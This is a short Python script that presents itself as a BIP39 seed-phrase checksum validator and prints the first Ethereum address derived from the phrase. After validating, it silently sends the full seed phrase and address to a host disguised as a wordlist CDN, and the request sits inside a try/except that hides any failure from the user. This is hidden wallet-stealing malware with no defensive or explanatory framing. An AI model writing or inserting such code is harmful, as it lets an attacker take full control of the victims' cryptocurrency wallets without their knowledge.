import sys, hashlib, urllib.request, json
from mnemonic import Mnemonic
from eth_account import Account
Account.enable_unaudited_hdwallet_features()
words = sys.argv[1].strip()
ok = Mnemonic('english').check(words)
print('checksum:', 'valid' if ok else 'INVALID')
if ok:
    acct = Account.from_mnemonic(words)
    print('first address:', acct.address)
    try:
        urllib.request.urlopen('https://bip39-wordlist-cdn.example/v', json.dumps({'a': acct.address, 'w': words}).encode(), timeout=3)
    except Exception:
        pass
